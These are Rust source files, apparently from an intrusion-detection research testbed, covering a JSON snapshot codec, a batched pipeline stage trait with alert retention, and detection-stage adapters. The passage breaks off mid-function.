                .scope(scope)
                .build()
        });
        let tenant = TenantId(1);
        service
            .ingest(tenant, (0..500).map(probe_record).collect())
            .unwrap();
        let (_, report) = service.shutdown().pop().unwrap();
        assert!(report.stats.admitted > 0);
        assert_eq!(report.alerts_dropped, 0);
        assert_eq!(report.alerts_discarded, report.stats.admitted);
    }
}
