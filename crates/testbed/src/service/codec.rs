//! JSON wire format for [`ServiceSnapshot`] — the on-disk shape of a
//! tenant's detection state across service restarts.
//!
//! Hand-rolled against the `serde_json` [`Value`] tree (the offline shim
//! has no derive-based serializer), one encode/decode pair per snapshot
//! struct. Floats round-trip exactly: Rust's shortest-repr `Display` is
//! re-parsed by `serde_json::from_str` into the identical bits, which is
//! what keeps restored posterior masses byte-identical.

use alertlib::filter::FilterStats;
use alertlib::filter::{FilterSnapshot, FilterWindowSnapshot};
use detect::attack_tagger::{EntityStateSnapshot, TaggerSnapshot};
use detect::correlate::{
    CampaignSnapshot, CorrelatorEntitySnapshot, CorrelatorSnapshot, JoinKeySnapshot, LinkKind,
    LinkSummary,
};
use serde_json::{json, Value};
use simnet::intern::TenantId;
use simnet::time::SimTime;

use super::ServiceSnapshot;
use crate::streaming::StreamStats;

/// Wire-format version; bumped on incompatible shape changes so a stale
/// fixture fails loudly instead of restoring garbage.
const FORMAT: u64 = 1;

impl ServiceSnapshot {
    /// Serialize to the pretty-printed JSON wire format.
    pub fn to_json(&self) -> String {
        let v = json!({
            "format": FORMAT,
            "tenant": self.tenant.0,
            "stats": stats_value(&self.stats),
            "filter": filter_value(&self.filter),
            "tagger": match &self.tagger {
                Some(t) => tagger_value(t),
                None => Value::Null,
            },
            "correlator": match &self.correlator {
                Some(c) => correlator_value(c),
                None => Value::Null,
            },
            "sym_universe": Value::Array(
                self.sym_universe
                    .iter()
                    .map(|(id, s)| json!([*id, s.as_str()]))
                    .collect(),
            ),
        });
        serde_json::to_string_pretty(&v).expect("value trees always serialize")
    }

    /// Parse the wire format back. Errors carry a field path so a
    /// corrupt fixture points at its own breakage.
    pub fn from_json(text: &str) -> Result<ServiceSnapshot, String> {
        let v = serde_json::from_str(text).map_err(|e| format!("snapshot JSON: {e}"))?;
        let format = need_u64(&v, "format")?;
        if format != FORMAT {
            return Err(format!(
                "snapshot format {format} (this build reads {FORMAT})"
            ));
        }
        Ok(ServiceSnapshot {
            tenant: TenantId(need_u32(&v, "tenant")?),
            stats: decode_stats(v.get("stats"))?,
            filter: decode_filter(v.get("filter"))?,
            tagger: match v.get("tagger") {
                Value::Null => None,
                t => Some(decode_tagger(t)?),
            },
            correlator: match v.get("correlator") {
                Value::Null => None,
                c => Some(decode_correlator(c)?),
            },
            sym_universe: need_array(&v, "sym_universe")?
                .iter()
                .map(|pair| {
                    let id = pair
                        .as_array()
                        .and_then(|a| a.first())
                        .and_then(Value::as_u64)
                        .ok_or("sym_universe: bad id")? as u32;
                    let s = pair
                        .as_array()
                        .and_then(|a| a.get(1))
                        .and_then(Value::as_str)
                        .ok_or("sym_universe: bad string")?;
                    Ok((id, s.to_string()))
                })
                .collect::<Result<_, String>>()?,
        })
    }
}

// ---- encode ----

fn time_value(t: SimTime) -> Value {
    Value::from(t.as_nanos())
}

fn step_ring_value(steps: &[(SimTime, u16)]) -> Value {
    Value::Array(
        steps
            .iter()
            .map(|(ts, kind)| json!([ts.as_nanos(), *kind]))
            .collect(),
    )
}

fn stats_value(s: &StreamStats) -> Value {
    json!({
        "records": s.records,
        "alerts": s.alerts,
        "admitted": s.admitted,
        "detections": s.detections,
    })
}

fn filter_value(f: &FilterSnapshot) -> Value {
    json!({
        "windows": Value::Array(
            f.windows
                .iter()
                .map(|w| json!({
                    "source": w.source.as_str(),
                    "kind": w.kind,
                    "start": time_value(w.start),
                    "admitted": w.admitted,
                }))
                .collect(),
        ),
        "seen": f.stats.seen,
        "admitted": f.stats.admitted,
        "suppressed": f.stats.suppressed,
        "last_sweep": time_value(f.last_sweep),
    })
}

fn tagger_value(t: &TaggerSnapshot) -> Value {
    json!({
        "entities": Value::Array(
            t.entities
                .iter()
                .map(|e| json!({
                    "entity": e.entity.as_str(),
                    "alpha": Value::Array(e.alpha.iter().map(|&p| Value::from(p)).collect()),
                    "steps": e.steps as u64,
                    "detected": e.detected,
                    "last_ts": time_value(e.last_ts),
                    "recent": step_ring_value(&e.recent),
                    "recent_head": e.recent_head,
                }))
                .collect(),
        ),
        "evicted_latches": Value::Array(
            t.evicted_latches.iter().map(Value::from).collect(),
        ),
        "duplicates_suppressed": t.duplicates_suppressed,
        "entities_evicted": t.entities_evicted,
    })
}

fn correlator_value(c: &CorrelatorSnapshot) -> Value {
    json!({
        "entities": Value::Array(
            c.entities
                .iter()
                .map(|e| json!({
                    "entity": e.entity.as_str(),
                    "campaign": e.campaign,
                    "mass": e.mass,
                    "last_ts": time_value(e.last_ts),
                    "seen": e.seen,
                    "promoted": e.promoted,
                    "steps": step_ring_value(&e.steps),
                    "steps_head": e.steps_head,
                }))
                .collect(),
        ),
        "keys": Value::Array(
            c.keys
                .iter()
                .map(|k| json!({
                    "kind": k.kind.as_str(),
                    "addr": k.addr,
                    "palette": match &k.palette {
                        Some(p) => Value::from(p.as_str()),
                        None => Value::Null,
                    },
                    "slots": Value::Array(
                        k.slots
                            .iter()
                            .map(|slot| match slot {
                                Some((entity, ts)) =>
                                    json!([entity.as_str(), ts.as_nanos()]),
                                None => Value::Null,
                            })
                            .collect(),
                    ),
                    "head": k.head,
                }))
                .collect(),
        ),
        "campaigns": Value::Array(
            c.campaigns
                .iter()
                .map(|cs| json!({
                    "id": cs.id,
                    "members": Value::Array(cs.members.iter().map(Value::from).collect()),
                    "links": Value::Array(
                        cs.links
                            .iter()
                            .map(|l| json!([
                                l.ts.as_nanos(),
                                l.a.as_str(),
                                l.b.as_str(),
                                l.kind.as_str(),
                            ]))
                            .collect(),
                    ),
                    "best_key": match &cs.best_key {
                        Some(k) => Value::from(k.as_str()),
                        None => Value::Null,
                    },
                    "best_mass": cs.best_mass,
                    "second": cs.second,
                    "support_ts": time_value(cs.support_ts),
                    "promotions": cs.promotions,
                    "detections": cs.detections,
                }))
                .collect(),
        ),
        "promoted_latches": Value::Array(
            c.promoted_latches.iter().map(Value::from).collect(),
        ),
        "next_campaign": c.next_campaign,
        "promotions": c.promotions,
        "tagger_confirmations": c.tagger_confirmations,
        "entities_evicted": c.entities_evicted,
    })
}

// ---- decode ----

fn need_u64(v: &Value, field: &str) -> Result<u64, String> {
    v.get(field)
        .as_u64()
        .ok_or_else(|| format!("`{field}`: expected unsigned integer"))
}

fn need_u32(v: &Value, field: &str) -> Result<u32, String> {
    let raw = need_u64(v, field)?;
    u32::try_from(raw).map_err(|_| format!("`{field}`: {raw} out of u32 range"))
}

fn need_u16(v: &Value, field: &str) -> Result<u16, String> {
    let raw = need_u64(v, field)?;
    u16::try_from(raw).map_err(|_| format!("`{field}`: {raw} out of u16 range"))
}

fn need_u8(v: &Value, field: &str) -> Result<u8, String> {
    let raw = need_u64(v, field)?;
    u8::try_from(raw).map_err(|_| format!("`{field}`: {raw} out of u8 range"))
}

fn need_f64(v: &Value, field: &str) -> Result<f64, String> {
    v.get(field)
        .as_f64()
        .ok_or_else(|| format!("`{field}`: expected number"))
}

fn need_bool(v: &Value, field: &str) -> Result<bool, String> {
    v.get(field)
        .as_bool()
        .ok_or_else(|| format!("`{field}`: expected bool"))
}

fn need_str(v: &Value, field: &str) -> Result<String, String> {
    v.get(field)
        .as_str()
        .map(str::to_string)
        .ok_or_else(|| format!("`{field}`: expected string"))
}

fn need_time(v: &Value, field: &str) -> Result<SimTime, String> {
    Ok(SimTime::from_nanos(need_u64(v, field)?))
}

fn need_array<'a>(v: &'a Value, field: &str) -> Result<&'a Vec<Value>, String> {
    v.get(field)
        .as_array()
        .ok_or_else(|| format!("`{field}`: expected array"))
}

fn opt_str(v: &Value, field: &str) -> Result<Option<String>, String> {
    match v.get(field) {
        Value::Null => Ok(None),
        other => other
            .as_str()
            .map(|s| Some(s.to_string()))
            .ok_or_else(|| format!("`{field}`: expected string or null")),
    }
}

fn decode_step_ring(v: &Value, field: &str) -> Result<Vec<(SimTime, u16)>, String> {
    need_array(v, field)?
        .iter()
        .map(|pair| {
            let a = pair
                .as_array()
                .filter(|a| a.len() == 2)
                .ok_or_else(|| format!("`{field}`: expected [ts, kind] pair"))?;
            let ts = a[0]
                .as_u64()
                .ok_or_else(|| format!("`{field}`: bad timestamp"))?;
            let kind = a[1]
                .as_u64()
                .and_then(|k| u16::try_from(k).ok())
                .ok_or_else(|| format!("`{field}`: bad kind index"))?;
            Ok((SimTime::from_nanos(ts), kind))
        })
        .collect()
}

fn link_kind(s: &str) -> Result<LinkKind, String> {
    match s {
        "victim" => Ok(LinkKind::Victim),
        "source" => Ok(LinkKind::Source),
        "host" => Ok(LinkKind::Host),
        "palette" => Ok(LinkKind::Palette),
        other => Err(format!("unknown link kind `{other}`")),
    }
}

fn decode_stats(v: &Value) -> Result<StreamStats, String> {
    Ok(StreamStats {
        records: need_u64(v, "records")?,
        alerts: need_u64(v, "alerts")?,
        admitted: need_u64(v, "admitted")?,
        detections: need_u64(v, "detections")?,
    })
}

fn decode_filter(v: &Value) -> Result<FilterSnapshot, String> {
    Ok(FilterSnapshot {
        windows: need_array(v, "windows")?
            .iter()
            .map(|w| {
                Ok(FilterWindowSnapshot {
                    source: need_str(w, "source")?,
                    kind: need_u16(w, "kind")?,
                    start: need_time(w, "start")?,
                    admitted: need_u32(w, "admitted")?,
                })
            })
            .collect::<Result<_, String>>()?,
        stats: FilterStats {
            seen: need_u64(v, "seen")?,
            admitted: need_u64(v, "admitted")?,
            suppressed: need_u64(v, "suppressed")?,
        },
        last_sweep: need_time(v, "last_sweep")?,
    })
}

fn decode_tagger(v: &Value) -> Result<TaggerSnapshot, String> {
    Ok(TaggerSnapshot {
        entities: need_array(v, "entities")?
            .iter()
            .map(|e| {
                Ok(EntityStateSnapshot {
                    entity: need_str(e, "entity")?,
                    alpha: need_array(e, "alpha")?
                        .iter()
                        .map(|p| p.as_f64().ok_or("`alpha`: expected number".to_string()))
                        .collect::<Result<_, String>>()?,
                    steps: need_u64(e, "steps")? as usize,
                    detected: need_bool(e, "detected")?,
                    last_ts: need_time(e, "last_ts")?,
                    recent: decode_step_ring(e, "recent")?,
                    recent_head: need_u8(e, "recent_head")?,
                })
            })
            .collect::<Result<_, String>>()?,
        evicted_latches: decode_string_array(v, "evicted_latches")?,
        duplicates_suppressed: need_u64(v, "duplicates_suppressed")?,
        entities_evicted: need_u64(v, "entities_evicted")?,
    })
}

fn decode_string_array(v: &Value, field: &str) -> Result<Vec<String>, String> {
    need_array(v, field)?
        .iter()
        .map(|s| {
            s.as_str()
                .map(str::to_string)
                .ok_or_else(|| format!("`{field}`: expected string"))
        })
        .collect()
}

fn decode_correlator(v: &Value) -> Result<CorrelatorSnapshot, String> {
    Ok(CorrelatorSnapshot {
        entities: need_array(v, "entities")?
            .iter()
            .map(|e| {
                Ok(CorrelatorEntitySnapshot {
                    entity: need_str(e, "entity")?,
                    campaign: need_u32(e, "campaign")?,
                    mass: need_f64(e, "mass")?,
                    last_ts: need_time(e, "last_ts")?,
                    seen: need_u32(e, "seen")?,
                    promoted: need_bool(e, "promoted")?,
                    steps: decode_step_ring(e, "steps")?,
                    steps_head: need_u8(e, "steps_head")?,
                })
            })
            .collect::<Result<_, String>>()?,
        keys: need_array(v, "keys")?
            .iter()
            .map(|k| {
                Ok(JoinKeySnapshot {
                    kind: link_kind(&need_str(k, "kind")?)?,
                    addr: need_u32(k, "addr")?,
                    palette: opt_str(k, "palette")?,
                    slots: need_array(k, "slots")?
                        .iter()
                        .map(|slot| match slot {
                            Value::Null => Ok(None),
                            other => {
                                let a = other
                                    .as_array()
                                    .filter(|a| a.len() == 2)
                                    .ok_or("`slots`: expected [entity, ts] or null")?;
                                let entity =
                                    a[0].as_str().ok_or("`slots`: bad entity key")?.to_string();
                                let ts = a[1].as_u64().ok_or("`slots`: bad timestamp")?;
                                Ok(Some((entity, SimTime::from_nanos(ts))))
                            }
                        })
                        .collect::<Result<_, String>>()?,
                    head: need_u8(k, "head")?,
                })
            })
            .collect::<Result<_, String>>()?,
        campaigns: need_array(v, "campaigns")?
            .iter()
            .map(|c| {
                Ok(CampaignSnapshot {
                    id: need_u32(c, "id")?,
                    members: decode_string_array(c, "members")?,
                    links: need_array(c, "links")?
                        .iter()
                        .map(|l| {
                            let a = l
                                .as_array()
                                .filter(|a| a.len() == 4)
                                .ok_or("`links`: expected [ts, a, b, kind]")?;
                            Ok(LinkSummary {
                                ts: SimTime::from_nanos(
                                    a[0].as_u64().ok_or("`links`: bad timestamp")?,
                                ),
                                a: a[1].as_str().ok_or("`links`: bad endpoint")?.to_string(),
                                b: a[2].as_str().ok_or("`links`: bad endpoint")?.to_string(),
                                kind: link_kind(a[3].as_str().ok_or("`links`: bad kind")?)?,
                            })
                        })
                        .collect::<Result<_, String>>()?,
                    best_key: opt_str(c, "best_key")?,
                    best_mass: need_f64(c, "best_mass")?,
                    second: need_f64(c, "second")?,
                    support_ts: need_time(c, "support_ts")?,
                    promotions: need_u32(c, "promotions")?,
                    detections: need_u32(c, "detections")?,
                })
            })
            .collect::<Result<_, String>>()?,
        promoted_latches: decode_string_array(v, "promoted_latches")?,
        next_campaign: need_u32(v, "next_campaign")?,
        promotions: need_u64(v, "promotions")?,
        tagger_confirmations: need_u64(v, "tagger_confirmations")?,
        entities_evicted: need_u64(v, "entities_evicted")?,
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn malformed_wire_snapshots_fail_loudly() {
        assert!(ServiceSnapshot::from_json("").is_err());
        assert!(ServiceSnapshot::from_json("{}").is_err(), "missing format");
        assert!(
            ServiceSnapshot::from_json(r#"{"format": 999}"#)
                .unwrap_err()
                .contains("format 999"),
            "future format version rejected by number"
        );
    }
}
