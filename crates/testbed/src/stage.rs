//! # The composable pipeline stage API.
//!
//! The paper's Fig. 4 pipeline (monitors → symbolization → repeated-scan
//! filter → online detection → response) used to exist twice: hardwired in
//! the closed-loop [`PipelineSink`](crate::pipeline::PipelineSink) and
//! re-implemented in the threaded `streaming` module. This module is the
//! single definition both deployments now share:
//!
//! - [`Stage`] — the batched stage trait: `process_batch` turns a slice of
//!   inputs into outputs, `flush` drains windowed state at end of stream.
//!   (Not to be confused with [`detect::Stage`], the hidden attack-stage
//!   enum — this one is a pipeline processing stage.)
//! - [`adapters`] — `Stage` impls wrapping every existing Fig. 4 component:
//!   monitors, `Symbolizer`, `ScanFilter`, `AttackTagger`, the
//!   rule-based/critical baselines, and the BHR-block + operator
//!   notification response step.
//! - [`builder`] — [`PipelineBuilder`] assembles a typed stage chain plus
//!   its tee points (counters, capped alert retention) into a
//!   [`BuiltPipeline`].
//! - [`executor`] — three drivers over the same assembled pipeline:
//!   inline (sequential), threaded (one thread per stage, batched bounded
//!   channels), and sharded (detect stage partitioned by entity hash
//!   across the rayon worker pool). All three produce *identical*
//!   [`StreamReport`]s; only wall-clock differs.
//!
//! ## Composing custom chains
//!
//! The executors drive the standard record→alert→detection chain, but the
//! trait composes freely; [`Chain`] fuses two stages and [`FnStage`] lifts
//! a closure:
//!
//! ```
//! use testbed::stage::{Chain, FnStage, Stage};
//!
//! let double = FnStage::new("double", |x: &u32, out: &mut Vec<u32>| out.push(x * 2));
//! let odd = FnStage::new("odd", |x: &u32, out: &mut Vec<u32>| {
//!     if x % 2 == 1 {
//!         out.push(*x)
//!     }
//! });
//! let mut chain = Chain::new(double, odd);
//! let mut out = Vec::new();
//! chain.process_batch(&[1, 2, 3], &mut out);
//! assert!(out.is_empty()); // doubling leaves nothing odd
//! ```

pub mod adapters;
pub mod builder;
pub mod executor;

pub use adapters::{
    BaselineStage, DetectOutcome, DetectorStage, FaultStage, FilterStage, MonitorStage,
    NotifyBackend, ResponseStage, SymbolizeStage, TagStage, TimedAction,
};
pub use builder::{BuiltPipeline, PipelineBuilder};
pub use executor::StreamReport;

use alertlib::alert::Alert;
use std::collections::VecDeque;

/// A batched pipeline stage: consumes a slice of `In` items, appends any
/// produced `Out` items.
///
/// Contract notes for executor writers:
/// - Stages are order-preserving over their input stream; calling
///   `process_batch` on `[a, b]` equals calling it on `[a]` then `[b]`.
///   This is what makes batch boundaries (and therefore executor choice)
///   unobservable.
/// - `flush` is called exactly once, after the final batch, for stages
///   with windowed state (e.g. scan-notice windows in monitors).
pub trait Stage<In, Out>: Send {
    /// Stage name for diagnostics and counters.
    fn name(&self) -> &'static str;

    /// Process one batch, appending outputs to `out`.
    fn process_batch(&mut self, input: &[In], out: &mut Vec<Out>);

    /// Drain any end-of-stream state.
    fn flush(&mut self, _out: &mut Vec<Out>) {}
}

/// Two stages fused into one: `A`'s output feeds `B` within the same
/// `process_batch` call (no intermediate channel).
pub struct Chain<A, B, Mid> {
    a: A,
    b: B,
    mid: Vec<Mid>,
}

impl<A, B, Mid> Chain<A, B, Mid> {
    pub fn new(a: A, b: B) -> Self {
        Chain {
            a,
            b,
            mid: Vec::new(),
        }
    }
}

impl<In, Mid, Out, A, B> Stage<In, Out> for Chain<A, B, Mid>
where
    Mid: Send,
    A: Stage<In, Mid>,
    B: Stage<Mid, Out>,
{
    fn name(&self) -> &'static str {
        "chain"
    }

    fn process_batch(&mut self, input: &[In], out: &mut Vec<Out>) {
        self.mid.clear();
        self.a.process_batch(input, &mut self.mid);
        self.b.process_batch(&self.mid, out);
    }

    fn flush(&mut self, out: &mut Vec<Out>) {
        self.mid.clear();
        self.a.flush(&mut self.mid);
        self.b.process_batch(&self.mid, out);
        self.b.flush(out);
    }
}

/// A stage defined by a closure over single items — handy glue for tests
/// and ad-hoc tees.
pub struct FnStage<F> {
    name: &'static str,
    f: F,
}

impl<F> FnStage<F> {
    pub fn new(name: &'static str, f: F) -> Self {
        FnStage { name, f }
    }
}

impl<In, Out, F> Stage<In, Out> for FnStage<F>
where
    F: FnMut(&In, &mut Vec<Out>) + Send,
{
    fn name(&self) -> &'static str {
        self.name
    }

    fn process_batch(&mut self, input: &[In], out: &mut Vec<Out>) {
        for item in input {
            (self.f)(item, out);
        }
    }
}

/// Capped retention of post-filter alerts for post-run analysis.
///
/// Replaces the old unbounded `PipelineSink::alerts` vector: a 25 M-alert
/// streaming run used to OOM if sampling was left on. Retention keeps at
/// most `cap` alerts, dropping the *oldest* beyond that and counting the
/// drops. `cap == 0` disables retention entirely; alerts flowing past a
/// disabled retention are counted as *discarded*, not dropped — a
/// stats-only run that never intended to retain anything must not report
/// its whole alert volume as drops (it used to: `alerts_dropped` in a
/// retention-off streaming run equalled every admitted alert).
#[derive(Debug, Default)]
pub struct AlertRetention {
    cap: usize,
    buf: VecDeque<Alert>,
    dropped: u64,
    discarded: u64,
}

impl AlertRetention {
    pub fn new(cap: usize) -> Self {
        AlertRetention {
            cap,
            buf: VecDeque::with_capacity(cap.min(1_024)),
            dropped: 0,
            discarded: 0,
        }
    }

    pub fn cap(&self) -> usize {
        self.cap
    }

    /// Alerts dropped because the cap was exceeded. Zero when retention
    /// is disabled — see [`AlertRetention::discarded`].
    pub fn dropped(&self) -> u64 {
        self.dropped
    }

    /// Alerts discarded because retention is disabled (`cap == 0`).
    pub fn discarded(&self) -> u64 {
        self.discarded
    }

    pub fn len(&self) -> usize {
        self.buf.len()
    }

    pub fn is_empty(&self) -> bool {
        self.buf.is_empty()
    }

    pub fn push(&mut self, alert: Alert) {
        if self.cap == 0 {
            self.discarded += 1;
            return;
        }
        if self.buf.len() == self.cap {
            self.buf.pop_front();
            self.dropped += 1;
        }
        self.buf.push_back(alert);
    }

    pub fn iter(&self) -> impl Iterator<Item = &Alert> {
        self.buf.iter()
    }

    /// Retained alerts, oldest first.
    pub fn into_vec(self) -> Vec<Alert> {
        self.buf.into()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use alertlib::alert::Entity;
    use alertlib::taxonomy::AlertKind;
    use simnet::time::SimTime;

    fn alert(t: u64) -> Alert {
        Alert::new(
            SimTime::from_secs(t),
            AlertKind::LoginSuccess,
            Entity::User("u".into()),
        )
    }

    #[test]
    fn retention_drops_oldest_and_counts() {
        let mut r = AlertRetention::new(3);
        for t in 0..5 {
            r.push(alert(t));
        }
        assert_eq!(r.len(), 3);
        assert_eq!(r.dropped(), 2);
        let kept: Vec<u64> = r.into_vec().iter().map(|a| a.ts.as_secs()).collect();
        assert_eq!(kept, vec![2, 3, 4]);
    }

    #[test]
    fn retention_cap_zero_disables() {
        let mut r = AlertRetention::new(0);
        for t in 0..10 {
            r.push(alert(t));
        }
        assert!(r.is_empty());
        assert_eq!(r.dropped(), 0, "retention-off is not a cap overflow");
        assert_eq!(r.discarded(), 10, "retention-off counts discards");
    }

    #[test]
    fn fn_stage_and_chain_compose() {
        let double = FnStage::new("double", |x: &u32, out: &mut Vec<u32>| out.push(x * 2));
        let add_one = FnStage::new("inc", |x: &u32, out: &mut Vec<u32>| out.push(x + 1));
        let mut chain = Chain::new(double, add_one);
        assert_eq!(chain.name(), "chain");
        let mut out = Vec::new();
        chain.process_batch(&[1, 2, 3], &mut out);
        assert_eq!(out, vec![3, 5, 7]);
    }

    #[test]
    fn chain_flush_drains_both_sides() {
        struct Windowed {
            pending: Vec<u32>,
        }
        impl Stage<u32, u32> for Windowed {
            fn name(&self) -> &'static str {
                "windowed"
            }
            fn process_batch(&mut self, input: &[u32], _out: &mut Vec<u32>) {
                self.pending.extend_from_slice(input);
            }
            fn flush(&mut self, out: &mut Vec<u32>) {
                out.append(&mut self.pending);
            }
        }
        let tail = FnStage::new("x10", |x: &u32, out: &mut Vec<u32>| out.push(x * 10));
        let mut chain = Chain::new(Windowed { pending: vec![] }, tail);
        let mut out = Vec::new();
        chain.process_batch(&[1, 2], &mut out);
        assert!(out.is_empty(), "all buffered until flush");
        chain.flush(&mut out);
        assert_eq!(out, vec![10, 20]);
    }
}
