//! [`Stage`] adapters wrapping the existing Fig. 4 components.
//!
//! Each adapter owns the component it wraps and exposes the batched
//! [`Stage`] interface; the detection adapters additionally guarantee the
//! **1:1 contract** the sharded executor relies on: exactly one
//! [`DetectOutcome`] is emitted per input alert, in input order.

use std::net::Ipv4Addr;

use alertlib::alert::Alert;
use alertlib::filter::{FilterStats, ScanFilter};
use alertlib::symbolize::Symbolizer;
use bhr::api::BhrHandle;
use detect::attack_tagger::AttackTagger;
use detect::critical::CriticalOnlyDetector;
use detect::online::OnlineSessionDetector;
use detect::rules::RuleBasedDetector;
use detect::Detection;
use simnet::action::Action;
use simnet::engine::EventCtx;
use simnet::flow::Direction;
use simnet::rng::FxHashSet;
use simnet::time::{SimDuration, SimTime};
use simnet::topology::Topology;
use telemetry::monitor::Monitor;
use telemetry::record::LogRecord;

use crate::report::OperatorNotification;
use crate::stage::Stage;

/// An action with its observation context, for driving [`MonitorStage`]
/// outside the simulation engine (which supplies a live [`EventCtx`]).
#[derive(Debug, Clone)]
pub struct TimedAction {
    pub time: SimTime,
    pub direction: Direction,
    pub action: Action,
}

/// The monitor fleet as a stage: fans each action out to every monitor in
/// registration order (§III-B: one action can be witnessed by several
/// monitors).
pub struct MonitorStage {
    monitors: Vec<Box<dyn Monitor>>,
    /// Topology used to synthesize an [`EventCtx`] when driven as a
    /// batched [`Stage`]; the closed-loop sink instead passes the
    /// engine's live context to [`MonitorStage::observe`].
    topology: Option<Topology>,
}

impl MonitorStage {
    pub fn new(monitors: Vec<Box<dyn Monitor>>) -> Self {
        MonitorStage {
            monitors,
            topology: None,
        }
    }

    /// Attach a topology so the stage can be driven from [`TimedAction`]s
    /// without a running engine.
    pub fn with_topology(mut self, topology: Topology) -> Self {
        self.topology = Some(topology);
        self
    }

    /// Observe one action under the engine's live context — the single
    /// definition of the monitor fan-out both deployments share.
    pub fn observe(&mut self, ctx: &EventCtx<'_>, action: &Action, out: &mut Vec<LogRecord>) {
        for m in &mut self.monitors {
            m.observe(ctx, action, out);
        }
    }

    /// Drain windowed monitor state (pending scan notices etc.).
    pub fn flush_records(&mut self, out: &mut Vec<LogRecord>) {
        for m in &mut self.monitors {
            m.flush(out);
        }
    }
}

impl Stage<TimedAction, LogRecord> for MonitorStage {
    fn name(&self) -> &'static str {
        "monitors"
    }

    fn process_batch(&mut self, input: &[TimedAction], out: &mut Vec<LogRecord>) {
        let topo = self
            .topology
            .as_ref()
            .expect("MonitorStage needs with_topology() to run as a batched stage");
        for ta in input {
            let ctx = EventCtx {
                time: ta.time,
                direction: ta.direction,
                dropped: None,
                topo,
            };
            for m in &mut self.monitors {
                m.observe(&ctx, &ta.action, out);
            }
        }
    }

    fn flush(&mut self, out: &mut Vec<LogRecord>) {
        self.flush_records(out);
    }
}

/// Symbolization: records → alerts (§II-A).
#[derive(Debug, Clone)]
pub struct SymbolizeStage {
    symbolizer: Symbolizer,
}

impl SymbolizeStage {
    pub fn new(symbolizer: Symbolizer) -> Self {
        SymbolizeStage { symbolizer }
    }

    pub fn symbolizer(&self) -> &Symbolizer {
        &self.symbolizer
    }
}

impl Stage<LogRecord, Alert> for SymbolizeStage {
    fn name(&self) -> &'static str {
        "symbolize"
    }

    fn process_batch(&mut self, input: &[LogRecord], out: &mut Vec<Alert>) {
        for r in input {
            self.symbolizer.symbolize_into(r, out);
        }
    }
}

/// The repeated-scan filter as a stage (admitted alerts pass through).
#[derive(Debug)]
pub struct FilterStage {
    filter: ScanFilter,
}

impl FilterStage {
    pub fn new(filter: ScanFilter) -> Self {
        FilterStage { filter }
    }

    pub fn stats(&self) -> FilterStats {
        self.filter.stats()
    }

    /// Owned-batch variant for executors: drains `batch`, moving admitted
    /// alerts into `out` (no clones on the hot path). Leaves `batch`
    /// empty with its capacity intact.
    pub fn admit_drain(&mut self, batch: &mut Vec<Alert>, out: &mut Vec<Alert>) {
        for a in batch.drain(..) {
            if self.filter.admit(&a) {
                out.push(a);
            }
        }
    }
}

impl Stage<Alert, Alert> for FilterStage {
    fn name(&self) -> &'static str {
        "scan-filter"
    }

    fn process_batch(&mut self, input: &[Alert], out: &mut Vec<Alert>) {
        for a in input {
            if self.filter.admit(a) {
                out.push(*a);
            }
        }
    }
}

/// One admitted alert annotated with the detector's verdict. Detection
/// stages emit exactly one outcome per input alert, in order.
#[derive(Debug, Clone)]
pub struct DetectOutcome {
    pub alert: Alert,
    pub detection: Option<Detection>,
}

/// The factor-graph [`AttackTagger`] as a detection stage.
#[derive(Debug, Clone)]
pub struct TagStage {
    tagger: AttackTagger,
}

impl TagStage {
    pub fn new(tagger: AttackTagger) -> Self {
        TagStage { tagger }
    }

    pub fn tagger(&self) -> &AttackTagger {
        &self.tagger
    }

    pub fn tagger_mut(&mut self) -> &mut AttackTagger {
        &mut self.tagger
    }

    fn outcome(&mut self, alert: Alert) -> DetectOutcome {
        DetectOutcome {
            detection: self.tagger.observe(&alert),
            alert,
        }
    }
}

impl Stage<Alert, DetectOutcome> for TagStage {
    fn name(&self) -> &'static str {
        "attack-tagger"
    }

    fn process_batch(&mut self, input: &[Alert], out: &mut Vec<DetectOutcome>) {
        for a in input {
            out.push(self.outcome(*a));
        }
    }
}

/// A session-scan baseline (rule-based or critical-only) as an online
/// detection stage, via [`OnlineSessionDetector`].
#[derive(Debug, Clone)]
pub struct BaselineStage<D> {
    name: &'static str,
    online: OnlineSessionDetector<D>,
}

impl<D: detect::SequenceDetector> BaselineStage<D> {
    pub fn new(name: &'static str, detector: D) -> Self {
        BaselineStage {
            name,
            online: OnlineSessionDetector::new(detector),
        }
    }

    fn outcome(&mut self, alert: Alert) -> DetectOutcome {
        DetectOutcome {
            detection: self.online.observe(&alert),
            alert,
        }
    }
}

impl<D: detect::SequenceDetector + Send> Stage<Alert, DetectOutcome> for BaselineStage<D> {
    fn name(&self) -> &'static str {
        self.name
    }

    fn process_batch(&mut self, input: &[Alert], out: &mut Vec<DetectOutcome>) {
        for a in input {
            out.push(self.outcome(*a));
        }
    }
}

/// The detection slot of an assembled pipeline. An enum (rather than a
/// boxed trait object) so the sharded executor can clone per-entity-empty
/// replicas for its shards.
#[derive(Debug, Clone)]
pub enum DetectorStage {
    Tagger(TagStage),
    Rules(BaselineStage<RuleBasedDetector>),
    Critical(BaselineStage<CriticalOnlyDetector>),
}

impl DetectorStage {
    pub fn tagger(tagger: AttackTagger) -> Self {
        DetectorStage::Tagger(TagStage::new(tagger))
    }

    pub fn rules(rules: RuleBasedDetector) -> Self {
        DetectorStage::Rules(BaselineStage::new("rule-based", rules))
    }

    pub fn critical() -> Self {
        DetectorStage::Critical(BaselineStage::new(
            "critical-only",
            CriticalOnlyDetector::new(),
        ))
    }

    /// Detector source label carried on operator notifications.
    pub fn source(&self) -> &'static str {
        match self {
            DetectorStage::Tagger(_) => "attack-tagger",
            DetectorStage::Rules(_) => "rule-based",
            DetectorStage::Critical(_) => "critical-only",
        }
    }

    /// The underlying factor-graph tagger, when this slot holds one —
    /// the evaluation harness's ground-truth hook into per-entity
    /// detection state.
    pub fn as_tagger(&self) -> Option<&AttackTagger> {
        match self {
            DetectorStage::Tagger(s) => Some(s.tagger()),
            _ => None,
        }
    }

    /// Apply a temporal-policy override to the detector, when it is the
    /// factor-graph tagger (the baselines have no temporal state). This is
    /// how [`crate::config::PipelineTuning::temporal`] reaches the stage.
    pub fn apply_temporal(&mut self, temporal: &detect::attack_tagger::TemporalPolicy) {
        if let DetectorStage::Tagger(s) = self {
            s.tagger_mut().set_temporal(temporal.clone());
        }
    }

    /// Owned-batch variant for executors: drains `batch`, emitting one
    /// outcome per alert (no clones). Leaves `batch` empty with its
    /// capacity intact.
    pub fn process_drain(&mut self, batch: &mut Vec<Alert>, out: &mut Vec<DetectOutcome>) {
        for a in batch.drain(..) {
            let o = match self {
